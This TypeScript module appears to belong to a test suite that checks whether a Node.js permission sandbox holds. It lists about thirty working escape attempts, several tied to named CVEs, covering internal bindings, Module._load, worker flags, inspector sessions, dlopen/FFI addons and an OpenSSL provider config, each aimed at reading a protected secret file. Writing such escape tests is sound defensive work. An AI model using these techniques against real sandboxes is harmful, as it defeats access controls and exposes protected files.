// The engine's own doors: nothing that JavaScript can undo may matter, so each of these undoes something first.
import { spawnSync } from "node:child_process";
import { copyFileSync, readFileSync } from "node:fs";
import * as inspector from "node:inspector";
import Module, { createRequire, registerHooks } from "node:module";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { runInNewContext, runInThisContext } from "node:vm";
import * as v8 from "node:v8";
import { Worker } from "node:worker_threads";
import { claim, NODE, type Attack, type Target } from "../attack.ts";

const require = createRequire(import.meta.url);

type Binding = Record<string, (...args: unknown[]) => unknown>;
type Insider = { binding: (name: string) => Binding; _linkedBinding?: (name: string) => Binding; mainModule?: { require: (name: string) => unknown } };
const insider: Insider = process as unknown as Insider;

export const attacks: Attack[] = [
  door("file-binding", "process.binding('fs') reads without the module's checks (CVE-2023-32002's kind)", (at) => readByBinding(at)),
  door("module-load", "Module._load loads a module under another name (CVE-2023-32002)", (at) => (Module as unknown as { _load: (name: string) => typeof import("node:fs") })._load("fs").readFileSync(at.secret, "latin1")),
  door("module-extension", "Module._extensions['.js'] compiles a file outside", (at) => loadByExtension(at)),
  door("constructor-of-main", "reaches Module by module.constructor (CVE-2023-30581's kind)", (at) => (module_().constructor as typeof Module & { _load: (name: string) => typeof import("node:fs") })._load("fs").readFileSync(at.secret, "latin1")),
  door("builtin-module", "process.getBuiltinModule", (at) => process.getBuiltinModule("fs").readFileSync(at.secret, "latin1")),
  door("patched-prototypes", "replaces every prototype that a check could use, then reads", (at) => readPatched(at)),
  door("patched-path", "replaces path.resolve and String methods, then reads (CVE-2024-21896)", (at) => readWithPatchedPath(at)),
  door("preloads-undone", "empties the module cache and takes all hooks and listeners away", (at) => readWithoutHooks(at)),
  door("load-hook", "registers a load hook that reads a file outside as source", (at) => loadByHook(at)),
  door("symbols-of-process", "calls what hides behind symbols of process", (at) => Object.getOwnPropertySymbols(process).map(String).join() + readFileSync(at.secret, "latin1")),
  door("new-context", "reads from a fresh vm context", (at) => runInNewContext("fs.readFileSync(path, 'latin1')", { fs: require("node:fs"), path: at.secret })),
  door("this-context", "evaluates with import() in a script", (at) => runInThisContext("(path) => process.getBuiltinModule('fs').readFileSync(path, 'latin1')")(at.secret)),
  door("worker-eval", "a worker from text", (at) => inWorker(`require("node:worker_threads").parentPort.postMessage(require("node:fs").readFileSync(${JSON.stringify(at.secret)}, "latin1"))`)),
  door("worker-data-url", "a worker from a data: URL", (at) => inWorker(new URL(`data:text/javascript,import{parentPort}from"node:worker_threads";import{readFileSync}from"node:fs";parentPort.postMessage(readFileSync(${JSON.stringify(at.secret)},"latin1"))`))),
  door("worker-without-preload", "a worker with its own flags, none of the runtime's (CVE-2025-23083)", (at) => inWorker(`require("node:worker_threads").parentPort.postMessage(require("node:fs").readFileSync(${JSON.stringify(at.secret)}, "latin1"))`, [])),
  door("worker-internals", "a worker with --expose-internals", (at) => inWorker(`require("node:worker_threads").parentPort.postMessage(require("node:fs").readFileSync(${JSON.stringify(at.secret)}, "latin1"))`, ["--no-warnings"])),
  door("data-import", "imports code from a data: URL", async (at) => JSON.stringify({ ...(await import(`data:text/javascript,import{readFileSync}from"node:fs";export const text=readFileSync(${JSON.stringify(at.secret)},"latin1")`)) })),
  door("import-outside", "imports a module outside", async (at) => JSON.stringify({ ...(await import(pathToFileURL(join(at.folder, "module.mjs")).href)) })),
  door("inspector-session", "an inspector session from inside evaluates with the command line's require", (at) => inspect(at)),
  { name: "engine/inspector-listens", tries: "opens the inspector's port", places: ["main", "child"], needs: ["free-port"], run: (at) => {
    inspector.open(at["free-port"], "127.0.0.1");
    const url = inspector.url();
    inspector.close();
    return url === undefined ? "" : claim(at);
  } },
  door("engine-flags", "sets V8's flags at run time, then reads", (at) => (v8.setFlagsFromString("--allow-natives-syntax"), readFileSync(at.secret, "latin1"))),
  door("dlopen", "process.dlopen of an addon that no grant names", (at) => load(at, join(at.project, "code/stray.node"))),
  door("dlopen-from-private-folder", "process.dlopen of an addon that it wrote itself", (at) => load(at, written(at))),
  door("require-addon", "require of an addon that no grant names", (at) => (require(join(at.project, "code/stray.node")), claim(at))),
  door("dlopen-with-flags", "process.dlopen with RTLD_NOLOAD left out and RTLD_GLOBAL set", (at) => load(at, join(at.project, "code/stray.node"), 0x101)),
  door("foreign-functions", "node:ffi calls the C library", (at) => foreign(at)),
  { name: "engine/addons-in-a-child", tries: "a child without --no-addons loads an addon", places: ["child"], run: (at) => spawnSync(process.execPath, ["-e", "process.dlopen({ exports: {} }, process.argv[1]); console.log(process.argv[2])", join(at.project, "code/stray.node"), claim(at)], { encoding: "latin1", env: {} }).stdout },
  { name: "engine/foreign-functions-in-a-child", tries: "a child loads a library with node:ffi", places: ["child"], run: (at) => spawnSync(process.execPath, ["--experimental-ffi", "-e", "require('node:ffi').dlopen(process.argv[1], {}); console.log(process.argv[2])", join(at.project, "code/stray.node"), claim(at)], { encoding: "latin1", env: {} }).stdout },
  { name: "engine/openssl-provider", tries: "OpenSSL loads a provider from a file that its configuration names", places: ["child"], run: (at) => spawnSync(process.execPath, ["--openssl-config", configuration(at), "-p", "crypto.createHash('sha256')"], { encoding: "latin1", env: { ...process.env, STRAY_TOKEN: at.token } }).stdout },
];

function door(name: string, tries: string, run: (at: Target) => unknown): Attack {
  return { name: `engine/${name}`, tries, places: NODE, run };
}

function readByBinding(at: Target): string {
  const binding = insider.binding("fs");
  const text = binding["readFileUtf8"]?.(at.secret, 0);
  if (text !== undefined) return String(text);
  const file = binding["open"]?.(at.secret, 0, 0o666, undefined, {});
  return readFileSync(Number(file), "latin1");
}

type Loader = { _extensions: Record<string, (module: { exports: unknown }, file: string) => void> };

function loadByExtension(at: Target): string {
  const made = new Module("made");
  (Module as unknown as Loader)._extensions[".json"]?.(made, join(at.folder, "data.json"));
  return JSON.stringify(made.exports);
}

function module_(): Module {
  return new Module("door");
}

function readPatched(at: Target): string {
  const before = { startsWith: String.prototype.startsWith, includes: Array.prototype.includes, test: RegExp.prototype.test };
  try {
    String.prototype.startsWith = () => true;
    Array.prototype.includes = () => true;
    RegExp.prototype.test = () => false;
    return readFileSync(at.secret, "latin1");
  } finally {
    String.prototype.startsWith = before.startsWith;
    Array.prototype.includes = before.includes;
    RegExp.prototype.test = before.test;
  }
}

function readWithPatchedPath(at: Target): string {
  const path = require("node:path") as { resolve: (...parts: string[]) => string };
  const before = path.resolve;
  try {
    path.resolve = () => at.readable;
    return readFileSync(at.secret, "latin1");
  } finally {
    path.resolve = before;
  }
}

function readWithoutHooks(at: Target): string {
  for (const name of Object.keys(require.cache)) delete require.cache[name];
  process.removeAllListeners("warning");
  return (require("node:fs") as typeof import("node:fs")).readFileSync(at.secret, "latin1");
}

function loadByHook(at: Target): string {
  const hooks = registerHooks({ load: (url, context, next) => (url.endsWith("#hooked") ? { format: "commonjs", shortCircuit: true, source: `module.exports = ${JSON.stringify(readFileSync(at.secret, "latin1"))}` } : next(url, context)), resolve: (name, context, next) => (name === "hooked-door" ? { url: `file:///x.cjs?${at.token}#hooked`, shortCircuit: true } : next(name, context)) });
  try {
    return String(require("hooked-door"));
  } finally {
    hooks.deregister();
  }
}

function inWorker(code: string | URL, execArgv?: string[]): Promise<string> {
  const worker = new Worker(code, { eval: typeof code === "string", ...(execArgv === undefined ? {} : { execArgv }) });
  return new Promise((done, failed) => worker.on("message", done).on("error", failed));
}

function inspect(at: Target): Promise<string> {
  const session = new inspector.Session();
  session.connect();
  const expression = `process.getBuiltinModule("fs").readFileSync(${JSON.stringify(at.secret)}, "latin1")`;
  return new Promise((done, failed) => {
    session.post("Runtime.evaluate", { expression, includeCommandLineAPI: true }, (error, result) => {
      session.disconnect();
      if (error === null) done(JSON.stringify(result));
      else failed(error);
    });
  });
}

function load(at: Target, file: string, flags?: number): string {
  const made = { exports: {} };
  if (flags === undefined) process.dlopen(made, file);
  else process.dlopen(made, file, flags);
  return claim(at);
}

function written(at: Target): string {
  const file = join(process.env["TMPDIR"] ?? "/tmp", `own-${at.token}.node`);
  copyFileSync(join(at.project, "code/stray.node"), file);
  return file;
}

type Ffi = { dlopen: (file: string | null, functions: object) => { functions?: Record<string, (...args: unknown[]) => unknown> } };

function foreign(at: Target): string {
  const ffi = process.getBuiltinModule("node:ffi") as unknown as Ffi;
  ffi.dlopen("libc.so.6", {});
  return claim(at);
}

function configuration(at: Target): string {
  const file = join(process.env["TMPDIR"] ?? "/tmp", `own-${at.token}.cnf`);
  const lines = ["nodejs_conf = section", "openssl_conf = section", "[section]", "providers = list", "[list]", "mine = one", "[one]", `module = ${join(at.project, "code/stray.node")}`, "activate = 1"];
  process.getBuiltinModule("fs").writeFileSync(file, lines.join("\n"));
  return file;
}
